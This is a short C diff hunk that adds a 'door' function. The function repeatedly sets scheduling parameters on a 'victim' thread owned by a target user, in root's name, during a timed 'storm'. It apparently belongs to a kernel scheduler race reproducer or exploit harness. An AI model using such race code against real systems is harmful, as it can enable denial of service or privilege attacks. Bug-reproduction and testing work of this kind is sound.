@@ -44,6 +44,23 @@ static int is_the_users(pid_t tid)
 	return !stat(path, &status) && status.st_uid == USER;
 }
 
+/* One of several in root's name that make the victim a member while a storm lasts. */
+static int door(int me)
+{
+	for (shared->word[me] = 0;;) {
+		pid_t victim = pool->victim;
+
+		if (now(CLOCK_MONOTONIC) >= pool->storm_ends_at || !is_the_users(victim)) {
+			usleep(3000);
+			continue;
+		}
+		for (int i = 0; i < 20; i++)
+			ask(victim, MS + me * MS / 64, 50 * MS, 50 * MS, RESET_ON_FORK);
+		shared->jobs[me]++;
+	}
+	return 0;
+}
+
 static void answer_wishes(void)
 {
 	for (int i = 0; i < SLOTS; i++) {
